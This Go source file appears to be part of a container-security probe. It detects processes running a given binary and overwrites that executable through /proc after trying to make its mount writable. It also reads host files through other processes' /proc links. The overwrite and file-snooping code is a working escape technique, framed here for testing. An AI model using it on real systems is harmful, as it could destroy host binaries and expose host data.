package main

import (
	"fmt"
	"os"
	"strconv"
	"time"

	"golang.org/x/sys/unix"
)

// exe says what a program file, given by a path below /proc, would let an
// attacker do: open it for writing, and its seals if it is a memfd.
func exe(paths []string) {
	for _, path := range paths {
		_, err := unix.Open(path, unix.O_WRONLY|unix.O_CLOEXEC, 0)
		show(err, "write", path)
		fd, err := unix.Open(path, unix.O_RDONLY|unix.O_CLOEXEC, 0)
		if err != nil {
			show(err, "read", path)
			continue
		}
		seals, err := unix.FcntlInt(uintptr(fd), unix.F_GET_SEALS, 0)
		if err != nil {
			show(err, "seals", path)
			continue
		}
		fmt.Printf("seals %s %#x\n", path, seals)
	}
}

// catch waits until a process appears that runs the program with a given inode
// number, and has a given name if there is one, keeps that file, waits until it
// can be written to, and overwrites it.
func catch(args []string) {
	want, _ := strconv.ParseUint(args[0], 10, 64)
	fmt.Println("waiting")
	for end := time.Now().Add(20 * time.Second); time.Now().Before(end); {
		for _, pid := range processes() {
			dir := "/proc/" + pid
			fd, err := unix.Open(dir+"/exe", unix.O_PATH|unix.O_CLOEXEC, 0)
			if err != nil {
				continue
			}
			var st unix.Stat_t
			comm, _ := os.ReadFile(dir + "/comm")
			if unix.Fstat(fd, &st) == nil && st.Ino == want && (len(args) < 2 || string(comm) == args[1]+"\n") {
				fmt.Println("caught the program of", pid)
				overwrite(fd)
				return
			}
			unix.Close(fd)
		}
	}
	fmt.Println("caught nothing")
}

// spy looks for a file of the host through every process that appears.
func spy(args []string) {
	fmt.Println("waiting")
	for end := time.Now().Add(20 * time.Second); time.Now().Before(end); {
		for _, pid := range processes() {
			for _, in := range []string{"/root", "/cwd", "/fd/0", "/fd/3"} {
				if b, err := os.ReadFile("/proc/" + pid + in + args[0]); err == nil {
					fmt.Printf("FOUND through %s%s: %s\n", pid, in, b)
					return
				}
			}
		}
	}
	fmt.Println("found nothing")
}

func processes() (pids []string) {
	d, err := os.Open("/proc")
	if err != nil {
		return nil
	}
	defer d.Close()
	names, _ := d.Readdirnames(-1)
	for _, n := range names {
		if n[0] >= '1' && n[0] <= '9' {
			pids = append(pids, n)
		}
	}
	return pids
}

// overwrite destroys the file behind an O_PATH descriptor once nobody executes
// it any more. First it tries to make its mount writable.
func overwrite(fd int) {
	attr := unix.MountAttr{Attr_clr: unix.MOUNT_ATTR_RDONLY}
	show(unix.MountSetattr(fd, "", unix.AT_EMPTY_PATH, &attr), "make writable")
	tree, err := unix.OpenTree(fd, "", unix.OPEN_TREE_CLONE|unix.OPEN_TREE_CLOEXEC|unix.AT_EMPTY_PATH)
	show(err, "copy the mount")
	if err == nil {
		show(unix.MountSetattr(tree, "", unix.AT_EMPTY_PATH, &attr), "make the copy writable")
		fd = tree
	}
	path := "/proc/self/fd/" + strconv.Itoa(fd)
	for end := time.Now().Add(20 * time.Second); time.Now().Before(end); time.Sleep(time.Millisecond) {
		w, err := unix.Open(path, unix.O_WRONLY|unix.O_CLOEXEC, 0)
		if err == unix.ETXTBSY {
			continue
		}
		show(err, "open for writing")
		if err == nil {
			_, err = unix.Write(w, []byte("#!/bin/false\n"))
			show(err, "OVERWRITE")
		}
		return
	}
	fmt.Println("busy")
}
